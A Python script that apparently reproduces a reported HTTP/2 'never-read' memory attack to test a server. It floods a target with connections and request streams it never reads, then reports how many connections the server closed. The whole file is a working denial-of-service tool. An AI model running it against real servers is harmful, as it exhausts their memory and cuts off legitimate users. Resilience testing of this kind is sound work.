#!/usr/bin/env python3
"""HTTP/2 clients that never read: the memory attack of issue 24, item 1.

Opens --connections h2c connections spread over --addresses loopback source addresses
(127.0.0.2, 127.0.0.3, ...), sends on each the connection preface, an empty SETTINGS frame and
--streams GET requests for PATH, then never reads a byte, for --seconds; then closes them all.
Prints one JSON line: connections opened, streams sent, connections the server closed (seen
when a send fails) and the seconds it took.

    h2flood.py HOST PORT PATH [--connections 1000] [--addresses 4] [--streams 100] [--seconds 20]
"""
import argparse
import json
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(index, value):
    """A header field with an indexed name from the static table, not indexed (RFC 7541 6.2.2)."""
    v = value.encode()
    assert len(v) < 127
    return bytes([index]) + bytes([len(v)]) + v


def request_block(authority, path):
    # :method GET (2), :scheme http (6), :path (4), :authority (1)
    return b"\x82\x86" + literal(4, path) + literal(1, authority)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("path")
    ap.add_argument("--connections", type=int, default=1000)
    ap.add_argument("--addresses", type=int, default=4)
    ap.add_argument("--streams", type=int, default=100)
    ap.add_argument("--seconds", type=float, default=20)
    a = ap.parse_args()
    started = time.monotonic()
    block = request_block(f"{a.host}:{a.port}", a.path)
    opening = PREFACE + frame(0x4, 0, 0)
    # HEADERS with END_STREAM | END_HEADERS, on odd stream ids.
    streams = b"".join(frame(0x1, 0x5, 2 * i + 1, block) for i in range(a.streams))
    socks, refused, closed = [], 0, 0
    for i in range(a.connections):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            s.bind((f"127.0.0.{2 + i % a.addresses}", 0))
            s.settimeout(5)
            s.connect((a.host, a.port))
            s.sendall(opening + streams)
            s.setblocking(False)
            socks.append(s)
        except OSError:
            refused += 1
            s.close()
    sent = time.monotonic() - started
    deadline = time.monotonic() + a.seconds
    while time.monotonic() < deadline:
        time.sleep(1)
        alive = []
        for s in socks:
            # A PING the server would answer: a failed send means it closed the connection.
            try:
                s.send(frame(0x6, 0, 0, b"\0" * 8))
                alive.append(s)
            except BlockingIOError:
                alive.append(s)
            except OSError:
                closed += 1
                s.close()
        socks = alive
    for s in socks:
        s.close()
    print(json.dumps({
        "connections": a.connections - refused,
        "refused_connections": refused,
        "streams": (a.connections - refused) * a.streams,
        "closed_by_server": closed,
        "seconds_to_send": round(sent, 2),
    }))
    return 0


if __name__ == "__main__":
    sys.exit(main())
